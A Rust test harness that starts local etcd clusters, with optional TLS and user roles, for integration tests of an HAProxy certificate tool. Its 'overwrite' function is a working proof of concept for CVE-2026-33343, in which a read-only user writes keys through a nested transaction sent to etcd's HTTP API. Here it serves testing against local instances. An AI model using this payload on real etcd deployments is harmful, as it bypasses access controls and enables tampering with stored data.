//! Real etcds of several versions: one member or a cluster of three, plain or with TLS and users.

use std::fs::{self, File};
use std::net::{IpAddr, Ipv4Addr, SocketAddr, TcpStream};
use std::path::{Path, PathBuf};
use std::process::Command;
use std::sync::LazyLock;
use std::time::{Duration, Instant};

use haproxy_certs::fleet::store::etcd::EtcdSettings;
use rustix::process::Signal;
use tempfile::TempDir;

use super::haproxy::testbed;
use super::pki::Authority;
use super::ports::Port;
use super::process::{Running, finish};
use super::{LIMIT, wait_until};

/// An etcd that can be started.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct EtcdVersion {
    /// `3.4.23`
    pub full: String,
    folder: PathBuf,
}

/// The suites that `tests/install` unpacks etcd from.
const SUITES: [&str; 3] = ["bookworm", "trixie", "sid"];

/// The etcds that are there. Panics where the required one is missing.
pub fn etcds() -> Vec<EtcdVersion> {
    static THERE: LazyLock<Vec<EtcdVersion>> = LazyLock::new(|| {
        let there: Vec<_> = SUITES.iter().filter_map(|suite| EtcdVersion::of(suite)).collect();
        assert!(!there.is_empty(), "etcd is missing, run: ./tests/install");
        there
    });
    THERE.clone()
}

/// The newest of [`etcds`].
pub fn newest_etcd() -> EtcdVersion {
    etcds().pop().unwrap()
}

impl EtcdVersion {
    fn of(suite: &str) -> Option<Self> {
        let folder = testbed().join(format!("etcd-{suite}/usr/bin"));
        let output = Command::new(folder.join("etcd")).arg("--version").output().ok()?;
        let text = String::from_utf8(output.stdout).ok()?;
        let full = text.lines().find_map(|line| line.strip_prefix("etcd Version: "))?.trim().to_owned();
        Some(Self { full, folder })
    }
}

/// What an etcd is started with.
#[derive(Debug, Clone)]
pub struct EtcdSetup {
    version: EtcdVersion,
    members: usize,
    tls: bool,
    at: IpAddr,
    arguments: Vec<String>,
}

impl EtcdSetup {
    /// One plain member.
    pub fn of(version: &EtcdVersion) -> Self {
        let at = Ipv4Addr::LOCALHOST.into();
        Self { version: version.clone(), members: 1, tls: false, at, arguments: Vec::new() }
    }

    /// A cluster of three.
    pub fn three(mut self) -> Self {
        self.members = 3;
        self
    }

    /// TLS for clients, who must have a certificate of [`Etcd::authority`]'s.
    pub fn tls(mut self) -> Self {
        self.tls = true;
        self
    }

    /// Clients reach it at this address of the host.
    pub fn at(mut self, address: impl Into<IpAddr>) -> Self {
        self.at = address.into();
        self
    }

    /// One more argument for each member.
    pub fn argument(mut self, argument: &str) -> Self {
        self.arguments.push(argument.to_owned());
        self
    }

    /// Starts it, and waits until it answers.
    #[track_caller]
    pub fn start(self) -> Etcd {
        let temporary = tempfile::Builder::new().prefix("etcd-").tempdir().unwrap();
        let folder = temporary.path();
        let authority = Authority::new();
        // etcd's gateway is a client of its own server, with the server's certificate.
        let server = authority.issue_for_both(&["127.0.0.1", "localhost", &self.at.to_string()]);
        let client = authority.issue_for_both(&["lb1.test"]);
        for (name, text) in [
            ("ca.pem", authority.root().to_owned()),
            ("server.pem", server.fullchain()),
            ("server.key", server.key.pem()),
            ("client.pem", client.fullchain()),
            ("client.key", client.key.pem()),
        ] {
            fs::write(folder.join(name), text).unwrap();
        }
        let members = (0..self.members).map(|_| Member::new()).collect();
        let mut etcd = Etcd { setup: self, members, authority, temporary, user: None };
        for number in 0..etcd.members.len() {
            etcd.run(number);
        }
        etcd.wait_until_it_answers();
        // For the summary of `tests/run`.
        let ran = testbed().join("ran");
        let _ = fs::create_dir_all(&ran);
        let _ = fs::write(ran.join(format!("etcd-{}", etcd.version())), "");
        etcd
    }
}

#[derive(Debug)]
struct Member {
    client: Port,
    peer: Port,
    running: Option<Running>,
}

impl Member {
    fn new() -> Self {
        Self { client: Port::free(), peer: Port::free(), running: None }
    }
}

/// A running etcd; it ends when dropped.
#[derive(Debug)]
pub struct Etcd {
    setup: EtcdSetup,
    members: Vec<Member>,
    authority: Authority,
    temporary: TempDir,
    user: Option<(String, String)>,
}

impl Etcd {
    /// The CA of the members' and clients' certificates.
    pub fn authority(&self) -> &Authority {
        &self.authority
    }

    /// `3.4.23`
    pub fn version(&self) -> &str {
        &self.setup.version.full
    }

    /// A file of its folder: `ca.pem`, `client.pem`, `client.key`.
    pub fn file(&self, name: &str) -> PathBuf {
        self.temporary.path().join(name)
    }

    /// Its folder: logs and data are in it.
    pub fn folder(&self) -> &Path {
        self.temporary.path()
    }

    /// The members' addresses.
    pub fn endpoints(&self) -> Vec<String> {
        let scheme = if self.setup.tls { "https" } else { "http" };
        self.members.iter().map(|member| format!("{scheme}://{}", self.address(member))).collect()
    }

    fn address(&self, member: &Member) -> SocketAddr {
        (self.setup.at, member.client.number()).into()
    }

    /// How a client reaches it, by the user that was made last.
    pub fn settings(&self, fleet: &str) -> EtcdSettings {
        let mut settings = EtcdSettings::new(fleet.parse().unwrap(), self.endpoints());
        if self.setup.tls {
            settings.ca = Some(self.file("ca.pem"));
            settings.certificate = Some(self.file("client.pem"));
            settings.key = Some(self.file("client.key"));
        }
        if let Some((user, password)) = &self.user {
            settings.user = Some(user.clone());
            settings.password_file = Some(self.password_file(password));
        }
        settings
    }

    /// A file with this password.
    pub fn password_file(&self, password: &str) -> PathBuf {
        use std::os::unix::fs::PermissionsExt as _;
        let path = self.file(&format!("password-{password}"));
        fs::write(&path, format!("{password}\n")).unwrap();
        fs::set_permissions(&path, fs::Permissions::from_mode(0o600)).unwrap();
        path
    }

    /// `etcdctl`, as root where users are on.
    #[track_caller]
    pub fn ctl(&self, arguments: &[&str]) -> String {
        match self.try_ctl(arguments) {
            Ok(text) => text,
            Err(text) => panic!("etcdctl {arguments:?}: {text}\n{}", self.logs()),
        }
    }

    /// The same where it may fail.
    pub fn try_ctl(&self, arguments: &[&str]) -> Result<String, String> {
        let mut command = Command::new(self.setup.version.folder.join("etcdctl"));
        command.env("ETCDCTL_API", "3").arg("--endpoints").arg(self.endpoints().join(","));
        command.args(["--command-timeout", "10s", "--dial-timeout", "10s"]);
        if self.setup.tls {
            command.arg("--cacert").arg(self.file("ca.pem"));
            command.arg("--cert").arg(self.file("client.pem")).arg("--key").arg(self.file("client.key"));
        }
        if self.user.is_some() {
            command.args(["--user", "root:root"]);
        }
        let output = finish(command.args(arguments), LIMIT);
        if output.status.success() {
            Ok(String::from_utf8_lossy(&output.stdout).into())
        } else {
            Err(String::from_utf8_lossy(&output.stderr).into())
        }
    }

    /// Turns users on: root, and one who may do as `permission` says (`read`, `readwrite`) with this fleet's keys.
    #[track_caller]
    pub fn users_on(&mut self, fleet: &str, permission: &str) {
        let prefix = format!("/haproxy-certs/{fleet}/");
        let add = |user: &str, password: &str| {
            self.ctl(&["user", "add", &format!("{user}:{password}")]);
        };
        add("root", "root");
        add("node", "secret");
        self.ctl(&["role", "add", "fleet"]);
        self.ctl(&["role", "grant-permission", "--prefix=true", "fleet", permission, &prefix]);
        self.ctl(&["user", "grant-role", "root", "root"]);
        self.ctl(&["user", "grant-role", "node", "fleet"]);
        self.ctl(&["auth", "enable"]);
        self.user = Some(("node".into(), "secret".into()));
    }

    /// One more user, who may only read this fleet's keys: name and password.
    #[track_caller]
    pub fn reader(&self, fleet: &str) -> (&'static str, &'static str) {
        let prefix = format!("/haproxy-certs/{fleet}/");
        self.ctl(&["user", "add", "reader:only"]);
        self.ctl(&["role", "add", "reading"]);
        self.ctl(&["role", "grant-permission", "--prefix=true", "reading", "read", &prefix]);
        self.ctl(&["user", "grant-role", "reader", "reading"]);
        ("reader", "only")
    }

    /// Writes as a user who may only read, by a transaction inside a transaction (CVE-2026-33343); as root where that hole
    /// is mended. Without TLS.
    pub fn overwrite(&self, (user, password): (&str, &str), key: &str, value: &[u8]) {
        let base64 = |bytes: &[u8]| base64::Engine::encode(&base64::prelude::BASE64_STANDARD, bytes);
        let post = |path: &str, token: &str, body: &str| {
            let request = ureq::post(format!("{}/v3/{path}", self.endpoints()[0]));
            let request = request.header("Accept", "application/json");
            let request = if token.is_empty() { request } else { request.header("Authorization", token) };
            request.send(body).and_then(|mut response| response.body_mut().read_to_string())
        };
        let log_in = |user: &str, password: &str| {
            let body = format!(r#"{{"name":"{user}","password":"{password}"}}"#);
            let text = post("auth/authenticate", "", &body).unwrap();
            let answer: serde_json::Value = serde_json::from_str(&text).unwrap();
            answer["token"].as_str().unwrap().to_owned()
        };
        let put = format!(
            r#"{{"request_put":{{"key":"{}","value":"{}"}}}}"#,
            base64(key.as_bytes()),
            base64(value)
        );
        let inner = format!(r#"{{"success":[{{"request_txn":{{"success":[{put}]}}}}]}}"#);
        if post("kv/txn", &log_in(user, password), &inner).is_err() {
            // Debian 12's has the hole.
            assert_ne!(self.version(), "3.4.23");
            post("kv/txn", &log_in("root", "root"), &format!(r#"{{"success":[{put}]}}"#)).unwrap();
        }
    }

    /// Kills a member.
    pub fn kill(&mut self, number: usize) {
        if let Some(mut running) = self.members[number].running.take() {
            running.signal(Signal::KILL);
            running.stop();
        }
    }

    /// Stops a member without its end: it keeps its connections and says nothing.
    pub fn freeze(&mut self, number: usize) {
        self.members[number].running.as_mut().unwrap().signal(Signal::STOP);
    }

    /// Lets it go on.
    pub fn thaw(&mut self, number: usize) {
        self.members[number].running.as_mut().unwrap().signal(Signal::CONT);
    }

    /// Starts a member again.
    pub fn run(&mut self, number: usize) {
        let log =
            File::options().create(true).append(true).open(self.file(&format!("{number}.log"))).unwrap();
        let scheme = if self.setup.tls { "https" } else { "http" };
        let member = &self.members[number];
        let (client, peer) = (format!("{scheme}://{}", self.address(member)), url(&member.peer));
        let peers: Vec<String> = self
            .members
            .iter()
            .enumerate()
            .map(|(number, member)| format!("m{number}={}", url(&member.peer)))
            .collect();
        let running = Running::start(self.setup.version.folder.join("etcd"), |command| {
            command.args(["--name", &format!("m{number}"), "--log-level", "warn", "--logger", "zap"]);
            command.arg("--data-dir").arg(self.file(&format!("{number}.data")));
            command.args(["--listen-client-urls", &client, "--advertise-client-urls", &client]);
            command.args(["--listen-peer-urls", &peer, "--initial-advertise-peer-urls", &peer]);
            command.args(["--initial-cluster", &peers.join(",")]);
            // Quicker, and no weaker: the passwords are the tests'.
            command.args(["--bcrypt-cost", "4"]);
            if self.setup.tls {
                command.args(["--client-cert-auth", "--trusted-ca-file"]).arg(self.file("ca.pem"));
                command.arg("--cert-file").arg(self.file("server.pem"));
                command.arg("--key-file").arg(self.file("server.key"));
            }
            command.args(&self.setup.arguments);
            command.stdout(log.try_clone().unwrap()).stderr(log)
        });
        self.members[number].running = Some(running);
    }

    /// Waits until all that run answer.
    #[track_caller]
    pub fn wait_until_it_answers(&self) {
        let start = Instant::now();
        for member in self.members.iter().filter(|member| member.running.is_some()) {
            wait_until(LIMIT, "etcd's port", || {
                TcpStream::connect_timeout(&self.address(member), Duration::from_secs(1)).is_ok()
            });
        }
        loop {
            match self.try_ctl(&["get", "/"]) {
                Ok(_) => return,
                Err(text) => assert!(start.elapsed() < LIMIT, "{text}\n{}", self.logs()),
            }
            std::thread::sleep(Duration::from_millis(50));
        }
    }

    /// The end of what the members wrote.
    pub fn logs(&self) -> String {
        let log = |number| fs::read_to_string(self.file(&format!("{number}.log"))).unwrap_or_default();
        (0..self.members.len())
            .map(log)
            .map(|log| log.lines().rev().take(5).collect::<Vec<_>>().join("\n"))
            .collect::<Vec<_>>()
            .join("\n")
    }
}

impl Drop for Etcd {
    fn drop(&mut self) {
        for member in &mut self.members {
            // A frozen one hears no other signal.
            if let Some(running) = &mut member.running {
                running.signal(Signal::CONT);
            }
        }
    }
}

fn url(port: &Port) -> String {
    format!("http://{}", port.address())
}
